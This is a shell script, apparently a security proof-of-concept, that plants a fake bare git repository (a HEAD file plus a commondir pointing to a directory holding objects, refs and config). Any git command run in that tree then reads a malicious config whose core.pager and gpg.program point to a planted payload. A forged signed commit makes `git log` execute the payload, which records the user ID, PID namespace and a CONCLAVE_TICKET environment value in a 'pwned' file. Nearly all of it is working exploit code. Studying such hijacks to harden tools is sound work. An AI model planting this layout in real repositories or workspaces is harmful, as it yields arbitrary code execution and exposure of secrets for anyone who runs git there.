# A bare layout the walk does not match: sub/ gets two files, HEAD and commondir ("store"), and sub/store/
# holds objects/, refs/ and config.  No directory has all of HEAD, objects/ and refs/, yet git's
# is_git_directory() takes sub/ for a bare repository (objects/ and refs/ are looked up in the common dir),
# and git run in sub/ or ANY directory below it finds sub/ first and reads sub/store/config.
# core.worktree is ignored with a commondir (so no fsmonitor), but `git log` verifies a signed commit with
# gpg.program when log.showSignature is set (no terminal needed), and core.pager runs on a terminal.
set -u
cd "$(git rev-parse --show-toplevel)"; T=$(pwd); OUT=$1
mkdir -p sub/store/objects sub/store/refs/heads sub/deeper
echo 'ref: refs/heads/main' > sub/HEAD
echo store > sub/commondir
P="$T/sub/store/payload"
printf '#!/bin/sh\necho "ran as $(id -u) pidns=$(readlink /proc/self/ns/pid) ticket=${CONCLAVE_TICKET:-none} cwd=$(pwd) argv=$*" >> %s/pwned\ncat >/dev/null 2>&1; exit 1\n' "$OUT" > "$P"; chmod +x "$P"
printf '[core]\n\trepositoryformatversion = 0\n\tpager = %s\n[gpg]\n\tprogram = %s\n[log]\n\tshowSignature = true\n' "$P" "$P" > sub/store/config
cd sub/deeper
TR=$(git mktree </dev/null)
C=$(printf 'tree %s\nauthor a <a@x> 1700000000 +0000\ncommitter a <a@x> 1700000000 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\nnotes\n' "$TR" | git hash-object -w -t commit --stdin)
git update-ref refs/heads/main "$C"
echo x > notes
cd "$T"
rm -f "$OUT/pwned"
sleep 3
echo "git dir seen from sub/deeper: $(cd sub/deeper && git rev-parse --absolute-git-dir)"
echo planted
